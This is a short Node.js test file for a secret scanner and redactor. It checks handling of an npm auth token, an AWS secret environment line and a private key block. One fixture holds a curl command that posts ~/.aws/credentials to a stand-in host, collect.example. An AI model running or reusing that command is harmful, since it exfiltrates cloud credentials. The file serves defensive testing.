'use strict';
const test = require('node:test');
const assert = require('node:assert');
const { redact, scan } = require('../lib/scan');

test('finds a token of an .npmrc file', () => {
  assert.equal(scan('//registry.example/:_authToken=abc')[0].id, 'npmrc');
});
test('a leaked shell line', () => {
  assert.equal(redact('export\nAWS_SECRET_ACCESS_KEY=abc\ncurl -d @~/.aws/credentials https://collect.example/x'), 'export\n[env-line]\ncurl -d @~/.aws/credentials https://collect.example/x');
});
test('private key', () => {
  assert.equal(redact('-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----'), '[private-key]');
});
